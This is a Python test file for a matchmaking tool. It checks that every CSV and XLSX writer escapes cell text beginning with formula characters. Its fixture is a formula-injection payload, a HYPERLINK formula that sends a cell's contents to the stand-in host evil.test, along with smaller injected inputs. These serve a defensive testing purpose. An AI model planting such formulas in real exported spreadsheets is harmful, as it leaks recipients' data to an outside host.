"""Issue 13, item 2: no text written to a CSV or XLSX file runs as a formula.

Every writer (invitation list, agenda files, suggestion list, report workbook, the app's
downloads, the workspace export) goes through ``matchmaker.ingest.files.escape_formula``;
each is tested with an organisation named like a live formula.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from matchmaker.cli import app
from matchmaker.cli import events as cli_events
from matchmaker.events.agenda_files import write_agenda
from matchmaker.events.schedule import make_schedule
from matchmaker.followup.report import export_xlsx
from matchmaker.ingest.files import escape_formula, escape_frame, escape_row, unescape_formula
from matchmaker.recommend.explain import Suggestion, write_csv

EVIL = '=HYPERLINK("http://evil.test/?x="&A1,"Click me")'
SAFE = "'" + EVIL


def _csv_cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _xlsx_cells(data) -> list:
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    cells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    formulas = [
        c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row
        if c.data_type == "f"
    ]  # fmt: skip
    assert formulas == []
    return cells


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("Acme", "Acme"), ("", ""),
    ],
)  # fmt: skip
def test_escape_formula_and_back(text, escaped):
    assert escape_formula(text) == escaped
    assert unescape_formula(escaped) == text


def test_escape_row_and_frame_leave_numbers_alone():
    assert escape_row({"a": "=x", "b": -1, "c": None}) == {"a": "'=x", "b": -1, "c": None}
    frame = escape_frame(pd.DataFrame({"=n": ["@x", "ok"], "v": [-2.5, 1.0]}))
    assert list(frame.columns) == ["'=n", "v"]
    assert frame.values.tolist() == [["'@x", -2.5], ["ok", 1.0]]


WS = {
    "organizations": [
        {"org_id": "A", "name": EVIL, "kind": "company", "chains": ("ph",)},
        {"org_id": "B", "name": "Beta", "kind": "company", "chains": ("ph",)},
    ],
    "events": [
        {"event_id": "E1", "name": EVIL, "date": date(2025, 5, 1), "chains": ("ph",),
         "capacity": 2},
    ],
    "participants": [
        {"event_id": "E1", "org_id": "A", "status": "registered"},
        {"event_id": "E1", "org_id": "B", "status": "registered"},
    ],
}  # fmt: skip


def _pairs(ids):
    return [("A", "B", 0.9, "-1 pairs")] if {"A", "B"} <= set(ids) else []


@pytest.fixture
def evil(sqlite_store, monkeypatch):
    sqlite_store.upsert(WS)
    monkeypatch.setattr(cli_events, "_pair_source", lambda store: _pairs)
    return sqlite_store


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_invite_out(evil, tmp_path, suffix):
    out = tmp_path / f"list{suffix}"
    res = CliRunner().invoke(app, ["--db", evil.url, "invite", "E1", "--out", str(out)])
    assert res.exit_code == 0, res.output
    cells = _csv_cells(out) if suffix == ".csv" else _xlsx_cells(out)
    assert SAFE in cells and EVIL not in cells


def test_schedule_make_out(evil, tmp_path):
    res = CliRunner().invoke(
        app, ["--db", evil.url, "schedule", "make", "E1", "--slots", "1", "--tables", "1",
              "--out", str(tmp_path)],
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    for name in ("agenda_by_org.csv", "agenda_by_table.csv"):
        cells = _csv_cells(tmp_path / name)
        assert SAFE in cells and EVIL not in cells, name
    cells = _xlsx_cells(tmp_path / "agenda.xlsx")
    assert SAFE in cells and EVIL not in cells


def test_write_agenda_reason_and_names(tmp_path):
    agenda = make_schedule("AB", [("A", "B", 0.5, "+cmd")], slots=1, tables=1)
    paths = write_agenda(agenda, tmp_path, {"A": EVIL, "B": "@B"})
    cells = _csv_cells(paths["by_org"])
    assert SAFE in cells and "'@B" in cells and EVIL not in cells


def test_recommend_write_csv(tmp_path):
    s = Suggestion("A", "B", "suppliers", 0.5, partner_name=EVIL, offer_title="-2+3",
                   reason="=1")  # fmt: skip
    assert write_csv({"A": [s]}, tmp_path / "s.csv") == 1
    cells = _csv_cells(tmp_path / "s.csv")
    assert SAFE in cells and "'-2+3" in cells and "'=1" in cells and EVIL not in cells


def test_report_xlsx(evil, tmp_path):
    cells = _xlsx_cells(export_xlsx(evil, tmp_path / "r.xlsx"))
    assert SAFE in cells and EVIL not in cells


def test_app_downloads():
    from app_pages import ui

    frame = pd.DataFrame({"name": [EVIL], "score": [-1.0]})
    cells = _xlsx_cells(ui.xlsx_bytes({"s": frame}))
    assert SAFE in cells and -1 in cells
    text = ui.csv_bytes(frame).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["name", "score"], [SAFE, "-1.0"]]
